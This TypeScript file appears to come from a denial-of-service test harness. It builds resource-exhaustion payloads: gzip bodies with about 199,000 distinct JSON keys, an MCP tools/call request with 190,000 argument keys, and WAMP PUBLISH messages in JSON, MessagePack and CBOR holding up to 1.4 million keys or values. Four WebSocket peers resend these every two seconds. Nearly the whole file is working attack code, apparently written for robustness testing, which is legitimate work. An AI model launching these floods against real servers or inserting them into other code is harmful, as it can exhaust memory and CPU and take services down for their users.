/** Bodies and messages of very many different keys: each new key costs many times what a value does. */
import { gzipSync } from 'node:zlib'
import { encode } from '@msgpack/msgpack'
import { type Attack, toolName, turnOfOne } from './attack.ts'
import { posted, postOf } from './posted.ts'
import { pause } from './sockets.ts'
import { join } from './wamp-peers.ts'

/** The text of maps of different keys. */
const mapsOf = (maps: number, keys: number): string =>
  Array.from({ length: maps }, (_map, map) => {
    const members = Array.from({ length: keys }, (_key, key) => `"${map}k${key.toString(36)}":1`)
    return `{${members.join(',')}}`
  }).join(',')

export const keysOfBodies = posted(
  'keys-bodies',
  4,
  'a body of gzip with 199,000 keys in one map',
  ({ paths }) => postOf(paths.echo, gzipSync(mapsOf(1, 199_000)), ['Content-Encoding: gzip']),
)

export const keysOfLists = posted(
  'keys-lists',
  4,
  'a body of gzip with 1,900 maps of 100 keys, all different',
  ({ paths }) => postOf(paths.echo, gzipSync(`[${mapsOf(1900, 100)}]`), ['Content-Encoding: gzip']),
)

export const keysOfTools = posted(
  'keys-tools',
  4,
  'a call of a tool with arguments of 190,000 keys',
  ({ paths }) => {
    const params = `{"name":"${toolName}","arguments":${mapsOf(1, 190_000)}}`
    const body = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":${params}}`
    return postOf(paths.tools, Buffer.from(body), ['MCP-Protocol-Version: 2025-06-18'])
  },
)

/** PUBLISH, whose payload is made without values of its own: a head of MessagePack or CBOR, or text of JSON. */
const published = [16, 1, {}, 'com.example.attack.keys'] as const
const headOf = {
  'wamp.2.json': Buffer.from(JSON.stringify(published).replace(/]$/, ',')),
  'wamp.2.msgpack': Buffer.concat([Buffer.of(0x95), encode(published).subarray(1)]),
  'wamp.2.cbor': Buffer.from([
    ...[0x85, 0x10, 0x01, 0xa0, 0x60 + published[3].length],
    ...Buffer.from(published[3]),
  ]),
}
type Subprotocol = keyof typeof headOf

/** A list of so many equal items. */
const listOf = {
  'wamp.2.json': (item: Uint8Array, count: number) =>
    Buffer.from(`[${Array(count).fill(Buffer.from(item).toString()).join(',')}]]`),
  'wamp.2.msgpack': (item: Uint8Array, count: number) =>
    Buffer.concat([headOf32(0xdd, count), ...Array<Uint8Array>(count).fill(item)]),
  'wamp.2.cbor': (item: Uint8Array, count: number) =>
    Buffer.concat([headOf32(0x9a, count), ...Array<Uint8Array>(count).fill(item)]),
} as const

function headOf32(code: number, count: number): Buffer {
  const head = Buffer.of(code, 0, 0, 0, 0)
  head.writeUInt32BE(count, 1)
  return head
}

/** Four peers send one message each, whatever it is, and are cut off after 2 s. */
const messages = (
  name: string,
  about: string,
  all: () => readonly (readonly [Subprotocol, string | Uint8Array])[],
): Attack => ({
  ...{ name, about, maxTurn: turnOfOne },
  async run(target, signal) {
    const made = all()
    for (let round = 0; !signal.aborted; round += 4) {
      const sent = Array.from({ length: 4 }, (_, index) => made[(round + index) % made.length])
      const peers = await Promise.all(
        sent.map(async ([subprotocol, message] = ['wamp.2.json', '']) => {
          const peer = await join(target, subprotocol)
          peer?.webSocket.send(message)
          return peer
        }),
      )
      await pause(2000, signal)
      for (const peer of peers) peer?.cut()
    }
  },
})

export const keysOfMessages = messages(
  'keys-messages',
  '4 peers that each send a message of 14 MB with 1,400,000 keys, again each 2 s',
  () => [['wamp.2.json', `[16,1,{},"com.example.attack.keys",[${mapsOf(1, 1_400_000)}]]`]],
)

/** Very many values, long integers, and maps with one name for their keys. */
const items: readonly (readonly [Subprotocol, count: number, item: Uint8Array])[] = [
  ['wamp.2.json', 400_000, Buffer.from('[]')],
  ['wamp.2.msgpack', 400_000, Buffer.of(0x90)],
  ['wamp.2.cbor', 400_000, Buffer.of(0xc1, 0x80)],
  ['wamp.2.json', 300_000, Buffer.from('{"a":1}')],
  ['wamp.2.json', 300_000, Buffer.from('9007199254740993')],
  ['wamp.2.json', 400_000, Buffer.from('0.123456789')],
  ['wamp.2.msgpack', 200_000, Buffer.of(0x81, 0xa1, 0x61, 0x01)],
  ['wamp.2.cbor', 200_000, Buffer.of(0xa1, 0x61, 0x61, 0x01)],
]

export const valuesOfMessages = messages(
  'values-messages',
  '4 peers that each send a message of up to 5 MB with 400,000 values and more, of each serializer, again each 2 s',
  () =>
    items.map(([subprotocol, count, item]) => {
      const message = Buffer.concat([headOf[subprotocol], listOf[subprotocol](item, count)])
      return [subprotocol, subprotocol === 'wamp.2.json' ? message.toString() : message]
    }),
)
